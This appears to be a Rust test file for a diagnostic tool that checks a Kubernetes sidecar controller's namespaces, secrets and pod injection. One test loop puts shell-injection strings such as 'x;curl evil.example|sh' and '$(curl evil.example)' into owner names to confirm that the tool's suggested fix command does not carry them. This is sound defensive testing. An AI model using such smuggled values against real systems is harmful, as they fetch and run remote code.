use super::*;
use crate::doctor::{namespaces, pods};

const ENROLLED: &str = "{kind: Namespace, metadata: {name: shop, labels: {cloakroom.dev/enrolled: 'true'}}}";

const CONFIG: &str = "
---
kind: ConfigMap
metadata: {name: cloakroom-controller, namespace: cloakroom-system}
data:
  cloakroom.yaml: |
    controller: { sidecars: { image: 'registry/cloakroom@sha256:new' } }
  sidecar.yaml: |
    sessions: { store: { kind: redis, redis: { url: redis://cloakroom-store } } }
";

fn made(kind: &str, name: &str, manager: &str) -> String {
    format!(
        "\n---\n{{kind: {kind}, metadata: {{name: {name}, namespace: shop, labels: {{app.kubernetes.io/managed-by: {manager}}}}}}}\n"
    )
}

fn whole() -> String {
    let all = [
        ("Secret", "cloakroom-keys"),
        ("Secret", "cloakroom-gate"),
        ("ConfigMap", "cloakroom-gate"),
        ("RoleBinding", "cloakroom-gate"),
    ];
    let all = all.map(|(kind, name)| made(kind, name, "cloakroom-controller"));
    format!("{ENROLLED}{CONFIG}{}", all.concat())
}

#[test]
fn a_namespace_has_what_the_controller_makes() {
    let check = Check::Namespaces;
    expect(&namespaces::judge(&scene(&whole())), check, &[(Level::Ok, "is enrolled, and has what")]);
    expect(&namespaces::judge(&scene("")), check, &[(Level::Ok, "none is enrolled yet")]);
    let missing = (Level::Problem, "is not there, and the controller should have made it");
    expect(&namespaces::judge(&scene(&format!("{ENROLLED}{CONFIG}"))), check, &[missing; 4]);
    // Without sidecars, the keys alone.
    expect(&namespaces::judge(&scene(ENROLLED)), check, &[missing]);
    let foreign = whole().replacen("managed-by: cloakroom-controller", "managed-by: somebody", 1);
    expect(
        &namespaces::judge(&scene(&foreign)),
        check,
        &[(Level::Problem, "Secret shop/cloakroom-keys: is somebody else's")],
    );
    let other = scene("{kind: Namespace, metadata: {name: shop}}");
    expect(&namespaces::judge(&other), check, &[(Level::Problem, "is not enrolled")]);
    let mut named = scene("");
    named.namespaces = vec!["shop".to_owned()];
    expect(&namespaces::judge(&named), check, &[(Level::Problem, "Namespace shop: is not there")]);
}

#[test]
fn a_shared_gate_has_the_keys_of_each_namespace() {
    let gate = "\n---\n{kind: Deployment, metadata: {name: cloakroom-gate, namespace: cloakroom-system}}\n";
    let keys = |name: &str| {
        format!(
            "---\n{{kind: Secret, metadata: {{name: cloakroom-gate-keys, namespace: cloakroom-system}}, data: {{{name}: ''}}}}\n"
        )
    };
    let base = format!("{ENROLLED}{}{gate}", made("Secret", "cloakroom-keys", "cloakroom-controller"));
    let judged = |name: &str| namespaces::judge(&scene(&format!("{base}{}", keys(name))));
    expect(&judged("shop_keyring.yaml"), Check::Namespaces, &[(Level::Ok, "is enrolled")]);
    expect(&judged("other_keyring.yaml"), Check::Namespaces, &[(Level::Problem, "has no keys of the namespace shop")]);
}

#[test]
fn namespaces_that_share_a_user_of_the_store_are_told_that_they_trust_each_other() {
    let two = format!("{}\n---\n{}", whole(), ENROLLED.replace("shop", "login"));
    expect(&namespaces::judge(&scene(&two)), Check::Trust, &[(Level::Ok, "these namespaces trust each other")]);
    let apart =
        two.replace("redis://cloakroom-store }", "redis://cloakroom-store, username: 'cloakroom-${namespace}' }");
    expect(&namespaces::judge(&scene(&apart)), Check::Trust, &[(Level::Ok, "another one for each namespace")]);
    expect(&namespaces::judge(&scene(&whole())), Check::Trust, &[]);
}

#[test]
fn pods_have_the_sidecar_that_the_controller_gives() {
    let pod = |name: &str, labels: &str, image: &str| {
        let owner = "ownerReferences: [{kind: ReplicaSet, name: web-abc, controller: true}]";
        let container = if image.is_empty() {
            String::new()
        } else {
            format!("initContainers: [{{name: cloakroom, image: '{image}'}}], ")
        };
        format!(
            "\n---\n{{kind: Pod, metadata: {{name: {name}, namespace: shop, labels: {{pod-template-hash: abc, {labels}}}, {owner}}}, spec: {{{container}containers: [{{name: app}}]}}}}\n"
        )
    };
    let judged = |pods: &[String]| pods::judge(&scene(&format!("{}{}", whole(), pods.concat())));
    let new = "registry/cloakroom@sha256:new";
    expect(&judged(&[pod("a", "", new)]), Check::Sidecars, &[(Level::Ok, "has it (1)")]);
    let findings = judged(&[pod("a", "", ""), pod("b", "", ""), pod("c", "", new)]);
    expect(&findings, Check::Sidecars, &[(Level::Problem, "Deployment shop/web: 2 pods without the sidecar")]);
    assert_eq!(findings[0].cure.as_deref(), Some("make its pods anew: kubectl -n shop rollout restart deployment/web"));
    for (from, to) in [
        ("{kind: ReplicaSet, name: web-abc,", "{kind: StatefulSet, name: 'x;curl evil.example|sh',"),
        ("{kind: ReplicaSet, name: web-abc,", "{kind: 'StatefulSet; curl evil.example', name: web,"),
        ("{kind: ReplicaSet, name: web-abc,", "{kind: StatefulSet, name: '$(curl evil.example)',"),
        ("name: web-abc,", "name: 'web;curl evil.example-abc',"),
    ] {
        let findings = judged(&[pod("a", "", "").replace(from, to)]);
        expect(&findings, Check::Sidecars, &[(Level::Problem, "1 pod without the sidecar")]);
        let cure = findings[0].cure.as_deref().unwrap();
        assert!(
            !cure.contains("kubectl") && !cure.contains("curl") && cure.contains("an owner that cannot be"),
            "{cure}"
        );
    }
    expect(
        &judged(&[pod("a", "cloakroom.dev/inject: 'false'", "")]),
        Check::Sidecars,
        &[(Level::Ok, "no pods that should")],
    );
    expect(
        &judged(&[pod("a", "", "old")]),
        Check::Sidecars,
        &[(Level::Warning, "1 pod with the sidecar old, and new pods get registry")],
    );
    let mut waits = scene(&format!("{}{}", whole(), pod("a", "", new)));
    waits.objects.get_mut(&Kind::Pod).unwrap()[0]["status"] = json!({ "initContainerStatuses": [{ "name": "cloakroom", "state": { "waiting": { "reason": "ImagePullBackOff" } } }] });
    expect(&pods::judge(&waits), Check::Sidecars, &[(Level::Problem, "does not run: ImagePullBackOff")]);
    // With Istio's proxy alone a pod is open, and so is one that Istio's objects do not find.
    let meshed = |labels: &str, image: &str| {
        let pod = pod("a", labels, image).replace("[{name: app}]", "[{name: app}, {name: istio-proxy}]");
        pods::judge(&mesh(scene(&format!("{}{pod}", whole())), Mesh::Istio))
    };
    expect(&meshed("", ""), Check::Sidecars, &[(Level::Problem, "with Istio's proxy and without the sidecar")]);
    expect(&meshed("", new), Check::Sidecars, &[(Level::Problem, "without the label cloakroom.dev/injected=true")]);
    expect(&meshed("cloakroom.dev/injected: 'true'", new), Check::Sidecars, &[(Level::Ok, "has it (1)")]);
    // A shared gate needs none.
    let shared = scene(&format!("{ENROLLED}{}", pod("a", "", "")));
    expect(&pods::judge(&shared), Check::Sidecars, &[]);
}
